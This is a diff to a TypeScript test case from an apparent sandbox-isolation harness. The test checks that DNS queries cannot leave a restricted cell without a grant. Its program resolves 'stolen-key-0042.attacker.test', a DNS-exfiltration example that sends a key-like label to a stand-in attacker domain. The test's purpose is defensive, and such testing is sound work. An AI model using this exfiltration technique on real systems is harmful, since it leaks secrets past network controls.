@@ -1,6 +1,6 @@
 // SPDX-License-Identifier: Apache-2.0
 import type { Attack } from "../harness/attack.ts";
-import { hostileNameServer, nameRefusals, resolvers } from "../harness/name-server.ts";
+import { nameRefusals, overhearing, resolvers } from "../harness/name-server.ts";
 
 export const hostile: Attack = {
   claim: "Without any grant no question leaves the cell",
@@ -9,16 +9,10 @@ export const hostile: Attack = {
   resolvers,
   startRefusals: ["ERR_NOT_ENFORCEABLE"],
   refusals: nameRefusals,
-  prepare: async (site) => {
-    const server = await hostileNameServer(site, ({ name }) => [
-      { name, type: "A", data: "93.184.216.34", ttl: 0 },
-    ]);
-    const { questions } = server;
-    return { ...server, harmed: () => (questions.length > 0 ? "a question came out" : undefined) };
-  },
+  prepare: (site) =>
+    overhearing(site, (questions) => (questions.length > 0 ? "a question came out" : undefined)),
   program: async (cell) => {
-    const resolver = new (cell.node("node:dns").promises.Resolver)();
-    if (cell.text("server") !== "") resolver.setServers([cell.text("server")]);
+    const resolver = cell.resolver();
     await resolver.resolve4("stolen-key-0042.attacker.test");
   },
 };
